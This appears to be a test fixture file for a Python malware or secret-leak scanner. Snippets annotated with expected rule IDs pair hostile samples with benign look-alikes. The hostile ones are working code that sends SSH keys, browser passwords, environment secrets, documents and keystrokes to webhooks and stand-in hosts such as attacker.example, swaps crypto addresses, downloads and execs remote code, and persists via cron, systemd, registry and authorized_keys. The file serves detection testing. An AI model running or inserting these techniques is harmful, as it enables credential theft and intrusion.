#: discord webhook with host data
import getpass
import platform
import socket
import requests

HOOK = "https://discord.com/api/webhooks/1029384756/abcdefghijk"
info = f"{getpass.getuser()}@{socket.gethostname()} {platform.platform()}"
requests.post(HOOK, json={"content": info}, timeout=5)  # expect: PY-EXFILTRATION
#: discord webhook with a build result
import sys
import requests

HOOK = "https://discord.com/api/webhooks/1029384756/abcdefghijk"
status = "passed" if len(sys.argv) > 1 else "failed"
requests.post(HOOK, json={"content": f"build {status}"}, timeout=5)
#: telegram bot with files of the user
import os
import requests

TOKEN = "12345:abc"
for root, _, files in os.walk(os.path.expanduser("~/Documents")):
    for name in files:
        if name.endswith((".docx", ".pdf", ".txt")):
            with open(os.path.join(root, name), "rb") as handle:
                requests.post(  # expect: PY-EXFILTRATION
                    f"https://api.telegram.org/bot{TOKEN}/sendDocument",
                    data={"chat_id": "1"},
                    files={"document": handle},
                    timeout=30,
                )
#: telegram bot that answers
import os
import requests

TOKEN = os.environ["BOT_TOKEN"]


def answer(chat, text):
    requests.post(
        f"https://api.telegram.org/bot{TOKEN}/sendMessage",
        data={"chat_id": chat, "text": text.upper()},
        timeout=30,
    )


answer(7, "hello")
#: whole environment sent
import json
import os
import urllib.request

payload = json.dumps(dict(os.environ)).encode()  # expect: PY-SECRET-ENVIRONMENT error
request = urllib.request.Request("https://collect.example.net/e", data=payload)
urllib.request.urlopen(request)  # expect: PY-EXFILTRATION error
#: one setting used as a credential
import os
import requests

token = os.environ["API_TOKEN"]
reply = requests.get(
    "https://api.example.com/v1/jobs", headers={"Authorization": f"Bearer {token}"}, timeout=10
)
print(reply.json())
#: ssh keys sent with a socket
import os
import socket

path = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")  # expect: PY-SECRET-FILE
with open(path) as f:  # expect: PY-SECRET-FILE error
    key = f.read()
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.20", 9001))  # expect: PY-NETWORK
s.sendall(key.encode())  # expect: PY-EXFILTRATION error
s.close()
#: a server that answers with capitals
import socketserver


class Capitals(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile:
            self.wfile.write(line.upper())


with socketserver.TCPServer(("127.0.0.1", 9001), Capitals) as server:
    server.serve_forever()
#: browser passwords
import os
import shutil
import sqlite3
import requests

src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")  # expect: PY-SECRET-FILE
shutil.copy(src, "ld.db")  # expect: PY-SECRET-FILE
db = sqlite3.connect("ld.db")
rows = db.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
requests.post("https://paste.example.org/api", data={"t": str(rows)}, timeout=9)  # expect: PY-EXFILTRATION
#: rows of the own database sent to the own service
import sqlite3
import requests

db = sqlite3.connect("orders.db")
rows = db.execute("SELECT id, total FROM orders WHERE sent = 0").fetchall()
for number, total in rows:
    requests.post("https://erp.example.com/orders", json={"id": number, "total": total}, timeout=9)
#: data in dns names
import base64
import socket

with open("/etc/passwd", "rb") as f:  # expect: PY-FILE-SENSITIVE
    data = base64.b32encode(f.read()).decode()
for i in range(0, len(data), 50):
    socket.gethostbyname(data[i:i + 50] + ".x.attacker.example")  # expect: PY-EXFILTRATION
#: names looked up from a list of hosts
import socket

HOSTS = ["example.com", "example.org"]
for host in HOSTS:
    print(host, socket.gethostbyname(host))
#: clipboard sent out
import time
import pyperclip
import requests

last = ""
while True:
    text = pyperclip.paste()
    if text != last:
        requests.post("https://198.51.100.7/c", data=text, timeout=3)  # expect: PY-EXFILTRATION
        last = text
    time.sleep(1)
#: clipboard cleaned up
import pyperclip

text = pyperclip.paste()
pyperclip.copy(" ".join(text.split()))
#: clipboard addresses swapped
import re
import time
import pyperclip

MINE = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
pattern = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
while True:
    text = pyperclip.paste()
    if pattern.match(text) and text != MINE:
        pyperclip.copy(MINE)  # expect: PY-CLIPBOARD-SWAP error
    time.sleep(0.5)
#: keylogger by mail
import smtplib
from threading import Timer
from pynput import keyboard

log = []


def on_press(key):
    log.append(str(key))


def report():
    server = smtplib.SMTP("smtp.example.com", 587)
    server.starttls()
    server.login("a@example.com", "pw")
    server.sendmail("a@example.com", "a@example.com", "".join(log))
    server.quit()
    Timer(60, report).start()


report()
with keyboard.Listener(on_press=on_press) as listener:  # expect: PY-SECRET-STORE error
    listener.join()
#: a shortcut listener
from pynput import keyboard


def show():
    print("pressed")


with keyboard.GlobalHotKeys({"<ctrl>+<alt>+h": show}) as hotkeys:
    hotkeys.join()
#: screen grabs sent
import io
import requests
from PIL import ImageGrab

shot = ImageGrab.grab()
buf = io.BytesIO()
shot.save(buf, format="PNG")
requests.post("https://discord.com/api/webhooks/1/x", files={"f": buf.getvalue()}, timeout=5)  # expect: PY-EXFILTRATION
#: a screen grab saved
from PIL import ImageGrab

shot = ImageGrab.grab()
shot.save("screen.png", format="PNG")
#: a chart posted to slack
import io
import matplotlib.pyplot as plt
import requests

plt.plot([1, 2, 3])
buf = io.BytesIO()
plt.savefig(buf, format="png")
requests.post("https://hooks.slack.com/services/T/B/x", json={"text": "done", "size": len(buf.getvalue())}, timeout=5)
#: download, write and run
import os
import stat
import subprocess
import requests

data = requests.get("https://files.example.net/agent", timeout=60).content
path = os.path.join("/tmp", ".cache-agent")
with open(path, "wb") as f:
    f.write(data)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
subprocess.Popen([path])  # expect: PY-COMMAND error
#: download and unpack data
import tarfile
import urllib.request

urllib.request.urlretrieve("https://data.example.com/set.tar.gz", "set.tar.gz")
with tarfile.open("set.tar.gz") as archive:
    archive.extractall("set", filter="data")
#: download and exec
import requests

code = requests.get("https://raw.example.net/stage2.py", timeout=10).text
exec(code)  # expect: PY-CODE-INJECTION error
#: download and exec hidden in a class
import urllib.request


class Updater:
    url = "https://raw.example.net/u.py"

    def fetch(self):
        return urllib.request.urlopen(self.url).read()

    def run(self):
        exec(compile(self.fetch(), "<u>", "exec"))  # expect: PY-CODE-INJECTION error, PY-CODE-INJECTION warning


Updater().run()
#: download json
import urllib.request
import json

with urllib.request.urlopen("https://api.example.com/v1/rates") as answer:
    rates = json.load(answer)
print(rates["EUR"])
#: decoded code
import base64, codecs, marshal, zlib

exec(base64.b64decode(b"cHJpbnQoMSkKaW1wb3J0IG9z"))  # expect: PY-CODE-DECODED error
exec(zlib.decompress(base64.b64decode("eJwrKMrMK9Ew1AQADhUCsA==")))  # expect: PY-CODE-DECODED error
exec(bytes.fromhex("7072696e74283129").decode())  # expect: PY-CODE-DECODED error
eval(codecs.decode("cevag(1)", "rot13"))  # expect: PY-CODE-DECODED error
#: decoded data
import base64, json, zlib

logo = base64.b64decode("iVBORw0KGgo=")
state = json.loads(zlib.decompress(base64.b64decode("eJyrVkpUslIw1FEqULIyqAUAJOwETA==")))
print(len(logo), state)
#: a setup script that calls home
import socket
import urllib.request
from setuptools import setup

urllib.request.urlopen("https://ping.example.net/?h=" + socket.gethostname())  # expect: PY-INSTALL-HOOK, PY-EXFILTRATION

setup(name="requestz", version="1.0", packages=["requestz"])
#: a setup script that reads its readme
from pathlib import Path
from setuptools import find_packages, setup

here = Path(__file__).parent
setup(
    name="tool",
    version="1.0",
    long_description=(here / "README.md").read_text(),
    packages=find_packages(),
    entry_points={"console_scripts": ["tool=tool.cli:main"]},
)
#: an install command that runs a program
import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("python -m tool.telemetry --register")  # expect: PY-COMMAND, PY-INSTALL-HOOK


setup(name="tool", version="1.0", cmdclass={"install": PostInstall})
#: a build command that copies files
import shutil
from setuptools import setup
from setuptools.command.build_py import build_py


class Build(build_py):
    def run(self):
        super().run()
        shutil.copy("schema.json", self.build_lib)


setup(name="tool", version="1.0", cmdclass={"build_py": Build})
#: persistence by cron and profile
import os
from pathlib import Path

os.system("(crontab -l; echo '@reboot python3 /tmp/.x.py') | crontab -")  # expect: PY-COMMAND, PY-PERSISTENCE
with open(os.path.expanduser("~/.bashrc"), "a") as f:  # expect: PY-FILE-SENSITIVE
    f.write("\npython3 ~/.local/.u.py &\n")
agents = Path.home() / "Library" / "LaunchAgents" / "com.apple.upd.plist"  # expect: PY-FILE-SENSITIVE, PY-PERSISTENCE
agents.write_text("<plist/>")  # expect: PY-FILE-SENSITIVE
#: a settings file in the home directory
from pathlib import Path

settings = Path.home() / ".config" / "mytool" / "settings.toml"
settings.parent.mkdir(parents=True, exist_ok=True)
settings.write_text("theme = 'dark'\n")
#: persistence by registry, startup folder and task
import os
import shutil
import subprocess
import sys
import winreg

key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)  # expect: PY-FILE-SENSITIVE
winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable)
startup = os.path.join(os.environ["APPDATA"], r"Microsoft\Windows\Start Menu\Programs\Startup")  # expect: PY-PERSISTENCE
shutil.copy(__file__, startup)  # expect: PY-FILE-SENSITIVE
subprocess.run(["schtasks", "/create", "/tn", "u", "/tr", sys.executable, "/sc", "onlogon"])  # expect: PY-COMMAND, PY-PERSISTENCE
#: a registry value read
import winreg

with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Python\PythonCore") as key:
    print(winreg.QueryInfoKey(key))
#: persistence by systemd and authorized_keys
import os

UNIT = "[Service]\nExecStart=/opt/.a\n[Install]\nWantedBy=multi-user.target\n"
with open("/etc/systemd/system/net-helper.service", "w") as f:  # expect: PY-FILE-SENSITIVE
    f.write(UNIT)
os.system("systemctl enable --now net-helper")  # expect: PY-COMMAND, PY-PERSISTENCE
with open("/root/.ssh/authorized_keys", "a") as f:  # expect: PY-FILE-SENSITIVE
    f.write("ssh-rsa AAAA attacker\n")
#: status of a service
import subprocess

found = subprocess.run(["systemctl", "is-active", "nginx"], capture_output=True, text=True)
print(found.stdout.strip())
#: a pth file
import os
import site

target = os.path.join(site.getsitepackages()[0], "zz_init.pth")  # expect: PY-PERSISTENCE
with open(target, "w") as f:
    f.write("import os; os.environ.get('X') and __import__('zz')\n")
#: an upload of a chosen report
import argparse
import requests

parser = argparse.ArgumentParser()
parser.add_argument("file")
options = parser.parse_args()
with open(options.file, "rb") as report:
    requests.post("https://reports.example.com/upload", files={"file": report}, timeout=60)
#: telemetry with a version
import platform
import requests

requests.post(
    "https://telemetry.example.com/v1",
    json={"python": platform.python_version(), "version": "1.2.0"},
    timeout=3,
)
#: secrets posted to a paste service
import os
import requests

keys = {name: os.environ.get(name) for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY")}
requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": str(keys)}, timeout=5)  # expect: PY-EXFILTRATION
